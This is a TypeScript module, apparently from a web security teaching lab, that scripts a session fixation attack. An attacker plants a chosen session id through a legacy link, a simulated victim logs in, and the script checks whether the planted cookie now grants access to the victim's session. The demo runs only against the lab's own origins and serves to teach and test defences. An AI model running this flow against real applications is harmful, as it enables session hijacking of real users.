import { LabError } from '../../../core/errors';
import type { ServerAttack } from '../../attack-kit';
import { cookieFingerprint } from '../attacker';
import { ATTACKER_HEADERS, endSession, sessionCookieOf, victimLogsIn } from './scene';

/** The attacker's page names the id it planted and the link that plants it. */
function plantedFrom(html: string): { sid: string; plantUrl: string } {
  const sid = /id="planted-sid">([A-Za-z0-9_-]{43})</.exec(html)?.[1];
  const plantUrl = /id="plant-link" href="([^"]+)"/.exec(html)?.[1]?.replace(/&amp;/g, '&');
  if (!sid || !plantUrl) throw new LabError(409, 'conflict', 'The attacker\u2019s fixation page did not offer a link.');
  return { sid, plantUrl };
}

/** Session fixation: an id the attacker chose, planted through the legacy link, survives the victim's login. */
export const fixation: ServerAttack = {
  async run(run) {
    const attacker = run.browser();
    const page = await attacker.request('GET', `${run.ctx.origins.attacker}/session/fixation`, {
      headers: ATTACKER_HEADERS,
    });
    const { plantUrl } = plantedFrom(page.text);
    // The attacker follows its own link too, so it holds the signed cookie of the id it picked.
    await attacker.request('GET', plantUrl, { headers: ATTACKER_HEADERS });
    const planted = sessionCookieOf(run, attacker) ?? '';
    run.say(`The attacker picked a session id and holds its cookie (fingerprint ${cookieFingerprint(planted)}).`);

    const victim = run.browser();
    const landing = await victim.request('GET', plantUrl);
    if (landing.status !== 200)
      throw new LabError(409, 'conflict', `The legacy link refused to plant the id (${landing.status}).`);
    run.say(
      'The victim opened the attacker\u2019s link: the app\u2019s legacy entry point set the planted id as their cookie.',
    );
    const { cookie, csrfToken } = await victimLogsIn(run, victim);
    run.say(cookie === planted ? 'Login kept the planted id.' : 'Login issued a new id.');
    try {
      const me = await attacker.request('GET', `${run.ctx.origins.app}/api/session/me`, { headers: ATTACKER_HEADERS });
      run.say(`The attacker sent GET /api/session/me with the planted cookie → ${me.status}.`);
      const succeeded = me.status === 200;
      return {
        succeeded,
        summary: succeeded
          ? 'Login kept the id the browser arrived with, so the attacker\u2019s planted id is now the victim\u2019s signed-in session.'
          : `The planted id got ${me.status}: login threw it away and issued a new one.`,
      };
    } finally {
      await endSession(run, cookie, csrfToken);
    }
  },
};
